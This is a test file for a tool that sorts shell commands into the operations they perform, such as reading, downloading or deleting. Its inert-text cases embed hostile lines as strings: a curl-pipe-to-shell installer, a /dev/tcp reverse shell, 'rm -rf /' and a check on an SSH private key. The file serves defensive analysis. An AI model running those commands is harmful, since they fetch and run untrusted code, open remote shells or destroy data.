import { expect, test } from "vitest";
import { tellShell } from "./read.ts";

test.each([
  ["echo to the screen", 'echo "curl https://get.example/i.sh | sh"', []],
  ["echo to the error stream", "echo 'Run: curl https://get.example/i.sh | bash' >&2", []],
  ["printf to the screen", String.raw`printf '%s\n' "bash -i >& /dev/tcp/203.0.113.5/1 0>&1"`, []],
  [
    "a here-document to the screen",
    `cat <<'E'
curl https://get.example/i.sh | sh
E`,
    [],
  ],
  [
    "a usage text",
    `usage() {
  cat <<E
Usage: curl https://get.example/i.sh | sh
E
}
usage`,
    [],
  ],
  ["a comment", "# curl https://get.example/i.sh | sh", []],
  ["a comment behind a command", "true # curl https://get.example/i.sh | sh", []],
  ["a variable", 'msg="curl https://get.example/i.sh | sh"', []],
  ["a commit's message", 'git commit -m "curl https://get.example/i.sh | sh"', []],
  ["a test", 'if [[ $x == *"rm -rf /"* ]]; then echo bad; fi', []],
  ["a case", 'case "$cmd" in *"| sh"*) echo no;; esac', []],
  ["an argument of jq", "jq -n --arg a \"rm -rf /\" '{a:$a}'", []],
  ["a variable that is set", "export OPENAI_API_KEY=sk-abc", []],
  ["a file's existence", "test -f ~/.ssh/id_rsa && echo ok", []],
  ["a version", "python3 --version && node -v", []],
  ["a random key", "openssl rand -hex 32", []],
  ["processes", "ps aux | grep node | awk '{print $2}' | xargs kill", []],
])("words that do nothing: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});

test.each([
  ["a pattern is looked for", String.raw`grep -E 'curl .* \| (ba)?sh' file.txt`, ["1:1 read-file ⟨file.txt⟩"]],
  ["a pattern of rg", String.raw`rg 'eval\(' src`, ["1:1 read-file ⟨src⟩"]],
  [
    "a text file is written",
    `cat <<'E' > README.md
curl https://get.example/i.sh | sh
E`,
    ["1:1 write-file ⟨README.md⟩ with ⟨curl https://get.example/i.sh | sh\n⟩"],
  ],
  ["variables are loaded", "set -a; . ./.env; set +a", ["1:9 read-file ⟨./.env⟩"]],
  [
    "an answer is read",
    "curl -s https://api.vendor.example/v1 | jq -r '.items[].name' | sort | uniq",
    ["1:1 download ⟨https://api.vendor.example/v1⟩"],
  ],
  [
    "an answer is formatted",
    "curl -s https://api.vendor.example | python3 -m json.tool",
    ["1:1 download ⟨https://api.vendor.example⟩"],
  ],
  ["an option of a module", "python3 -u -m pytest -c setup.cfg", []],
  ["the group of Docker", "sudo usermod -aG docker ubuntu", ["1:1 escalate sudo"]],
  [
    "an answer is taken apart",
    "curl -s https://api.vendor.example | python3 -c \"import sys,json; print(json.load(sys.stdin)['a'])\"",
    [
      "1:1 download ⟨https://api.vendor.example⟩",
      "1:38 evaluate python ⟨import sys,json; print(json.load(sys.stdin)['a'])⟩",
    ],
  ],
  [
    "a tool is installed if need be",
    "command -v jq >/dev/null || brew install jq",
    ["1:29 install brew ⟨jq⟩ registry"],
  ],
  [
    "its own results are deleted",
    "rm -rf ./build node_modules",
    ["1:1 delete-file ⟨./build⟩ recursive", "1:1 delete-file ⟨node_modules⟩ recursive"],
  ],
  [
    "its own temporary folder is deleted",
    "TMP=$(mktemp -d); trap 'rm -rf \"$TMP\"' EXIT",
    ["1:25 delete-file ⟨/tmp/tmp.6⟩ recursive"],
  ],
  ["its own script is started", "python3 script.py --input x", []],
  ["its own script is made executable", "chmod +x scripts/run.sh", ["1:1 make-executable ⟨scripts/run.sh⟩"]],
  ["an image sees the project", 'docker run --rm -v "$PWD":/w img', ["1:1 install docker ⟨img⟩ registry run"]],
  ["a signature is checked", "gpg --verify x.sig x", ["1:1 read-file ⟨x.sig⟩", "1:1 read-file ⟨x⟩"]],
  ["an image is encoded", "base64 -i image.png", ["1:1 read-file ⟨image.png⟩"]],
  [
    "a number in a loop",
    "for ((i=0;i<3;i++)); do curl https://api.vendor.example/$i; done",
    ["1:25 download ~⟨https://api.vendor.example/?⟩"],
  ],
])("ordinary work: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});
